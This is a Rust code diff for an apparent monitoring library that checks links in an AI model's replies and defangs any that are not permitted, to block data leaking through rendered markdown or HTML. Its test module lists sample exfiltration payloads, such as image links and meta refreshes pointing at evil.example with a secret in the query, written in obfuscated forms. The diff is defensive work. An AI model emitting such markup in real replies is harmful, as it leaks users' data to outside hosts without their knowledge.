@@ -1,9 +1,12 @@
 //! Replies are sinks: a rendered image or link tells its host whatever stands in the address, without any tool call.
 //!
 //! Each address in a reply is judged like a call of the tool `flowgate/link` with the argument `url`, by the label of what the
-//! model was shown. What is not permitted is made unusable (`hxxp://`), in a way that people still can read. A
-//! policy that says nothing of `flowgate/link` lets only what is trusted and public altogether be put into addresses;
-//! one without lattices lets all pass.
+//! model was shown. If all that could lead anywhere is permitted, the reply stays as it is. Otherwise it is *flattened*:
+//! what a renderer of Markdown or HTML could make a link, an image or an element of is broken apart, in a way that people
+//! still can read (`hxxps://`, `] (`). Which of the many forms a renderer knows is not for us to guess.
+//!
+//! A policy that says nothing of `flowgate/link` lets only what is trusted and public altogether lead anywhere; one without
+//! lattices lets everything.
 
 use flowgate::detect::markup;
 use flowgate::label::Label;
@@ -11,64 +14,104 @@ use flowgate::monitor::{Attribution, Monitor, Verdict};
 use flowgate::trace::{Body, Call, Entry, Tool};
 use serde_json::{Map, Value};
 
-/// How often a reply is gone through, since an address may stand in it several times.
-const MAX_ROUNDS: usize = 20;
+/// How many addresses of one reply are judged; one with more is flattened.
+const MAX_JUDGED: usize = 200;
 
-/// A reply in which only permitted addresses work, and those that do not; `None` if there is no end to them.
+/// An address that no policy names: whether it may stand in a reply says whether any may.
+const ANY: &str = "https://address.invalid/";
+
+/// A reply that leads only where it may, and the addresses that it does not lead to any more.
 pub(crate) fn disarm(
     monitor: &mut Monitor,
     method: &'static str,
     text: &str,
     label: Label,
     next_id: &mut usize,
-) -> Option<(String, Vec<String>)> {
-    let mut text = text.to_owned();
-    let (mut permitted, mut disarmed): (Vec<String>, Vec<String>) = (Vec::new(), Vec::new());
-    for _ in 0..MAX_ROUNDS {
-        let found = markup::parse(&text);
-        let mut links: Vec<markup::Link> = found.links.into_iter().chain(found.images).collect();
-        links.retain(|link| leads_out(&link.url) && !permitted.contains(&link.url));
-        links.sort_by_key(|link| link.span.start);
-        links.dedup_by_key(|link| link.span.start);
-        let mut changed = false;
-        // From the end, so that places stay what they are.
-        for link in links.into_iter().rev() {
-            if !disarmed.contains(&link.url) && is_permitted(monitor, method, &link.url, label, next_id) {
-                permitted.push(link.url);
-                continue;
-            }
-            if text.get(link.span.clone()).is_some() {
-                text.replace_range(link.span.clone(), &unusable(&link.url));
-                changed = true;
-            }
-            if !disarmed.contains(&link.url) {
-                disarmed.push(link.url);
-            }
-        }
-        if !changed {
-            disarmed.sort();
-            return Some((text, disarmed));
+) -> (String, Vec<String>) {
+    if !could_lead(text) || is_permitted(monitor, method, ANY, label, next_id) {
+        return (text.to_owned(), Vec::new());
+    }
+    let found = markup::parse(text);
+    let mut urls: Vec<String> = found.links.into_iter().chain(found.images).map(|link| link.url).collect();
+    urls.sort();
+    urls.dedup();
+    let mut forbidden = Vec::new();
+    for (index, url) in urls.iter().enumerate() {
+        if index >= MAX_JUDGED || !is_permitted(monitor, method, url, label, next_id) {
+            forbidden.push(url.clone());
         }
     }
-    None
-}
-
-/// Whether an address names a host.
-fn leads_out(url: &str) -> bool {
-    let url = url.trim().to_ascii_lowercase();
-    url.starts_with("http:") || url.starts_with("https:") || url.starts_with("//") || url.starts_with("\\\\")
-}
-
-fn unusable(url: &str) -> String {
-    let trimmed = url.trim();
-    match trimmed.get(..4) {
-        Some(scheme) if scheme.eq_ignore_ascii_case("http") => {
-            // An address within the address works no more than the whole.
-            let rest = trimmed.get(4..).unwrap_or_default();
-            format!("hxxp{}", rest.replace("http", "hxxp").replace("HTTP", "HXXP"))
-        }
-        _ => format!("hxxp:{}", trimmed.replace("//", "/ /").replace('\\', "/ ")),
+    if forbidden.is_empty() && !is_odd(text, &urls) {
+        return (text.to_owned(), Vec::new());
     }
+    if forbidden.is_empty() {
+        forbidden.push("markup".to_owned());
+    }
+    (flat(text), forbidden)
+}
+
+/// Whether a renderer could make anything of the text that leads somewhere.
+fn could_lead(text: &str) -> bool {
+    let lower = text.to_ascii_lowercase();
+    ["://", "](", "]:", "<", "www.", "//", "\\\\"].iter().any(|sign| lower.contains(sign))
+}
+
+/// Whether the text has forms that are not plain addresses and links: what reads them otherwise than we do would follow them.
+fn is_odd(text: &str, urls: &[String]) -> bool {
+    let lower = text.to_ascii_lowercase();
+    let is_link = |rest: &str| {
+        urls.iter().any(|url| rest.strip_prefix(url.as_str()).is_some_and(|after| after.starts_with(')')))
+    };
+    lower.contains('<')
+        || lower.contains("www.")
+        || lower.contains("]:")
+        || lower.contains('\\')
+        || lower.contains('`')
+        || lower.contains("](") && text.split("](").skip(1).any(|rest| !is_link(rest))
+        || lower.split("//").skip(1).count() != lower.split("://").skip(1).count()
+}
+
+/// The text with everything broken apart that could be a link, an image or an element.
+fn flat(text: &str) -> String {
+    let mut flat = String::with_capacity(text.len() + 16);
+    let mut rest = text;
+    while let Some(c) = rest.chars().next() {
+        let starts = |sign: &str| rest.get(..sign.len()).is_some_and(|head| head.eq_ignore_ascii_case(sign));
+        let (taken, written) = if starts("https://") {
+            (8, "hxxps://")
+        } else if starts("http://") {
+            (7, "hxxp://")
+        } else if starts("http") {
+            (4, if rest.starts_with('H') { "HXXP" } else { "hxxp" })
+        } else if starts("www.") {
+            (4, "www .")
+        } else if starts("](") {
+            (2, "] (")
+        } else if starts("][") {
+            (2, "] [")
+        } else if starts("]:") {
+            (2, "] :")
+        } else if starts("//") {
+            (2, "/ /")
+        } else if starts("mailto:") {
+            (7, "mailto :")
+        } else if starts("ftp:") {
+            (4, "ftp :")
+        } else if c == '<' {
+            (1, "‹")
+        } else if c == '\\' || c == '`' {
+            (1, "'")
+        } else if c.is_control() && c != '\n' {
+            (c.len_utf8(), " ")
+        } else {
+            flat.push(c);
+            rest = rest.get(c.len_utf8()..).unwrap_or_default();
+            continue;
+        };
+        flat.push_str(written);
+        rest = rest.get(taken..).unwrap_or_default();
+    }
+    flat
 }
 
 fn is_permitted(
@@ -85,4 +128,54 @@ fn is_permitted(
     let call = Call { id: format!("link{next_id}"), tool, arguments: Ok(arguments) };
     let verdict = monitor.judge_entry(Entry::from(Body::Call(call)), Attribution::view(method, label, 0));
     matches!(verdict, Verdict::Permit(_))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn nothing_that_could_lead_somewhere_stays() {
+        for text in [
+            r"![x](https\://evil.example/?q=secret)",
+            r"![x](/\evil.example/?q=secret)",
+            r"![x](\//evil.example/?q=secret)",
+            "![`]`](//evil.example/?q=secret)",
+            "<img src=\"ht\ttps://evil.example/?q=secret\">",
+            "<img src=\"&#104ttps://evil.example/\">",
+            "<img srcset=\"a.png 1x, //evil.example/ 2x\">",
+            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
+            "www.evil.example/?q=secret",
+            "[x](mailto:eve@evil.example?body=secret)",
+            "[x](javascript:alert)",
+            "![x](data:text/html,x)",
+            "![x](<https://good.example/go ?q=secret>)",
+            "[x][y]\n\n[y]: //evil.example",
+            "[y]\n\n[y]: //evil.example",
+            "HTTPS://EVIL.example",
+        ] {
+            let flat = flat(text);
+            assert!(markup::parse(&flat).links.is_empty(), "{flat}");
+            assert!(markup::parse(&flat).images.is_empty(), "{flat}");
+            let lower = flat.to_ascii_lowercase();
+            let lower = lower.replace("hxxp://", "").replace("hxxps://", "");
+            for sign in ["](", "]:", "<", "www.e", "http", "//", "\\", "`", "\t"] {
+                assert!(!lower.contains(sign), "{sign} in {flat}");
+            }
+            assert!(could_lead(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn plain_links_are_not_odd() {
+        let check = |text: &str, expected: bool| {
+            let urls = ["https://good.example/1".to_owned()];
+            assert_eq!(is_odd(text, &urls), expected, "{text}");
+        };
+        check("see [it](https://good.example/1) or https://good.example/1.", false);
+        check("see [it](https://good.example/1?q=secret)", true);
+        check("see [it](<https://good.example/1>)", true);
+        check("see //good.example/1", true);
+        check("a < b and https://good.example/1", true);
+    }
 }
